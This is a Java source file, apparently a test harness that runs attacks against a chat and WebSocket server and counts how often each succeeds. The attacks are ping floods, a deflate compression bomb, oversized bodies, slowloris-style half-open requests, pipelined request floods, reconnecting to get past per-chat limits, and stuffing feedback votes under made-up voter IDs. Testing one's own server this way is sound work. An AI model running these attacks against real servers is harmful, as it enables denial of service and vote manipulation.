package dev.doorman.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.doorman.benchmark.LongTexts;
import dev.doorman.socket.guard.RawClient;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** The ways to harm a server from outside. What each wants is what its number counts. */
enum Attack {
  /** Pings whose pongs are never read; wants connections that stay open. */
  PINGS(60) {
    @Override
    long round(Target target, int many) {
      byte[] ping = RawClient.frame(9, new byte[125]);
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.chat()) {
              int sent = 0;
              while (sent < PINGS_MOST && client.send(ping)) {
                sent++;
              }
              return sent == PINGS_MOST && !client.isClosedByServer() ? 1 : 0;
            }
          });
    }
  },

  /** Frames that become a thousand times as large; wants connections that agree to inflate. */
  COMPRESSION(60) {
    @Override
    long round(Target target, int many) {
      byte[] bomb = bomb();
      List<String> kinds = List.of("permessage-deflate", "deflate-frame", "x-webkit-deflate-frame");
      return Target.together(
          many,
          number -> {
            String kind = kinds.get(number % kinds.size());
            try (RawClient client = target.connect()) {
              String offer = "Sec-WebSocket-Extensions: " + kind;
              String head = client.upgrade("/chat", target.with(offer));
              boolean agreed = head.toLowerCase(java.util.Locale.ROOT).contains("extensions");
              for (int i = 0; i < 20 && client.send(bomb); i++) {
                // As fast as it goes.
              }
              return agreed ? 1 : 0;
            }
          });
    }
  },

  /** Bodies of ten megabytes; wants those that are read. */
  BODIES(80) {
    @Override
    long round(Target target, int many) {
      byte[] part = new byte[64 * 1024];
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.connect()) {
              client.send(post("/api/deletion-events", "Content-Length: " + 160L * part.length));
              int sent = 0;
              while (sent < 160 && client.send(part)) {
                sent++;
              }
              String head = client.head();
              return head.isEmpty() || head.startsWith("HTTP/1.1 413") ? 0 : 1;
            }
          });
    }
  },

  /** Hellos whose connections are gone at once; wants conversations that are there for ever. */
  HELLO_AND_GONE(50) {
    @Override
    long round(Target target, int many) {
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.chat()) {
              client.send(Target.text("{\"type\":\"hello\"}"));
            }
            return 0;
          });
    }
  },

  /** The longest texts, in as many chats as one address may begin; wants those worked on. */
  LONG_TEXTS(20) {
    @Override
    long round(Target target, int many) {
      List<Map.Entry<String, String>> kinds = new ArrayList<>(LongTexts.texts().entrySet());
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.chat()) {
              if (hello(client, Optional.empty()).isEmpty()) {
                return 0;
              }
              var kind = kinds.get(number % kinds.size());
              long taken = 0;
              for (int i = 0; i < 20; i++) {
                if (!isTaken(client, LongTexts.longest(kind.getKey(), kind.getValue()))) {
                  break;
                }
                taken++;
              }
              return taken;
            }
          });
    }
  },

  /** A new connection for each text of one chat; wants texts beyond the limit of a chat. */
  RECONNECTING(90) {
    @Override
    long round(Target target, int many) {
      long taken = 0;
      Optional<String> resume = Optional.empty();
      try {
        for (int i = 0; i < many; i++) {
          try (RawClient client = target.chat()) {
            resume = hello(client, resume).or(Optional::empty);
            if (resume.isEmpty() || !isTaken(client, "text number " + i)) {
              break;
            }
            taken++;
          }
        }
      } catch (IOException e) {
        // Cut off: what was taken until then counts.
      }
      return taken;
    }
  },

  /** Requests that never end; wants connections that are still open once they had to be sent. */
  HALF_OPEN(400) {
    @Override
    long round(Target target, int many) {
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.connect()) {
              client.send("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
              return client.isClosedByServer() ? 0 : 1;
            }
          });
    }
  },

  /** Requests without reading answers; wants connections that stay open. */
  PIPELINED(60) {
    @Override
    long round(Target target, int many) {
      String requests = "GET /help HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(500);
      return Target.together(
          many,
          number -> {
            try (RawClient client = target.connect()) {
              int sent = 0;
              while (sent < 200 && client.send(requests)) {
                sent++;
              }
              return sent == 200 && !client.isClosedByServer() ? 1 : 0;
            }
          });
    }
  },

  /** Votes of made-up readers; wants those that count. */
  VOTES(200) {
    @Override
    long round(Target target, int many) {
      long counted = 0;
      for (int i = 0; i < many; i++) {
        try (RawClient client = target.connect()) {
          String vote =
              "{\"article\":\"delete-or-deactivate\",\"version\":\"1\",\"voter\":\"%s\",\"helpful\":false}"
                  .formatted(UUID.randomUUID());
          client.send(post("/api/feedback", "Content-Length: " + vote.length()) + vote);
          counted += client.head().startsWith("HTTP/1.1 204") ? 1 : 0;
        } catch (IOException e) {
          // Refused.
        }
      }
      return counted;
    }
  };

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int PINGS_MOST = 40_000;

  private final int usual;

  Attack(int usual) {
    this.usual = usual;
  }

  /** How many connections or tries a round has where it is meant in earnest. */
  int usual() {
    return usual;
  }

  /**
   * Attacks once.
   *
   * @param many connections, or tries
   * @return how often the attacker got what they wanted
   */
  abstract long round(Target target, int many);

  private static String post(String path, String length) {
    return "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n%s\r\n\r\n"
        .formatted(path, length);
  }

  /** A frame of 16 kB that would be 16 MB, with the mark of a compressed one. */
  private static byte[] bomb() {
    var bytes = new ByteArrayOutputStream();
    try (var out = new DeflaterOutputStream(bytes, new Deflater(9, true))) {
      out.write(new byte[12_000_000]);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    byte[] frame = RawClient.frame(1, bytes.toByteArray());
    frame[0] = (byte) (frame[0] | 0x40);
    return frame;
  }

  /** Says hello; returns the secret to come back with, or nothing where the server said no. */
  static Optional<String> hello(RawClient client, Optional<String> resume) throws IOException {
    var frame = JSON.createObjectNode().put("type", "hello");
    resume.ifPresent(secret -> frame.put("resume", secret));
    client.send(Target.text(frame.toString()));
    return next(client, "welcome").map(welcome -> welcome.path("resume").asText());
  }

  /** Sends a text; whether the server acknowledged it. */
  static boolean isTaken(RawClient client, String text) throws IOException {
    String id = UUID.randomUUID().toString();
    var frame = JSON.createObjectNode().put("type", "say").put("id", id).put("text", text);
    client.send(Target.text(frame.toString()));
    return next(client, "ack").isPresent();
  }

  /** The next frame of this type; nothing where an error or the end comes first. */
  private static Optional<JsonNode> next(RawClient client, String type) throws IOException {
    while (true) {
      byte[] payload = client.payloadOf(1);
      if (payload == null) {
        return Optional.empty();
      }
      JsonNode frame = JSON.readTree(new String(payload, StandardCharsets.UTF_8));
      if (frame.path("type").asText().equals(type)) {
        return Optional.of(frame);
      }
      if (frame.path("type").asText().equals("error")) {
        return Optional.empty();
      }
    }
  }
}
